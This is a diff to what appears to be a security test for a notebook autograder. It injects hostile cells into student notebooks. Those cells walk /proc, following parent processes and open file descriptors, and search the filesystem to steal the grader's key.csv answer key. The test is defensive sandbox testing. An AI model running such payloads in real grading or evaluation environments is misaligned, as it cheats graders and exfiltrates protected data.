@@ -15,6 +15,8 @@ import hashlib
 import io
 import os
 import socket
+import subprocess
+import sys
 import threading
 from pathlib import Path
 
@@ -42,22 +44,25 @@ def _steal(path):
 '''
 
 ATTACKS = {
-    # the grader's working folder and open files, through /proc, then its key.csv
-    "proc": STEAL + '''
+    # up the process tree: each ancestor's working folder, then every open key.csv
+    "proc": STEAL + """
+pid = os.getppid()
+while pid > 1:
+    try:
+        cwd = os.readlink(f"/proc/{pid}/cwd")
+        for k in glob.glob(cwd + "/key.csv") + glob.glob(cwd + "/*/key.csv"):
+            _steal(k)
+        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+    except (OSError, ValueError):
+        break
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
     try:
-        for k in glob.glob(os.readlink(f"/proc/{pid}/cwd") + "/**/key.csv", recursive=True):
-            _steal(k)
-    except OSError:
-        pass
-    try:
         for fd in os.listdir(f"/proc/{pid}/fd"):
-            p = os.readlink(f"/proc/{pid}/fd/{fd}")
-            if p.endswith("key.csv"):
+            if os.readlink(f"/proc/{pid}/fd/{fd}").endswith("key.csv"):
                 _steal(f"/proc/{pid}/fd/{fd}")
     except OSError:
         pass
-''',
+""",
     # every file named key.csv anywhere, and the class folder's path guessed right
     "walker": STEAL + '''
 for root, dirs, files in os.walk("/"):
@@ -219,9 +224,13 @@ def hostile(tmp_path_factory):
             nb.cells.insert(at + 1, nbformat.v4.new_code_cell(consts + ATTACKS[sid]))
         nbformat.write(nb, str(subs / f"{sid}.ipynb"))
     before = {"class": _digest(d), "subs": _digest(subs), "out": _digest(grades.parent)}
-    code, out, err = _run(["exercises", "grade", d, subs, "--out", grades, "--jobs", "2",
-                           "--timeout", "40", "--notebook-seconds", "120",
-                           "--memory-mb", "1536", "--output-mb", "1", "--processes", "48"])
+    # graded as a teacher types it: from the class folder, its path on the command line
+    res = subprocess.run([sys.executable, "-m", "kinetostatics", "exercises", "grade", d,
+                          subs, "--out", grades, "--jobs", "2", "--timeout", "40",
+                          "--notebook-seconds", "120", "--memory-mb", "1536",
+                          "--output-mb", "1", "--processes", "48"], cwd=d,
+                         capture_output=True, text=True, timeout=1200)
+    code, out, err = res.returncode, res.stdout, res.stderr
     listener.close()
     summary = pd.read_csv(grades.with_name("grades_students.csv"), dtype={"student": str},
                           keep_default_na=False).set_index("student")
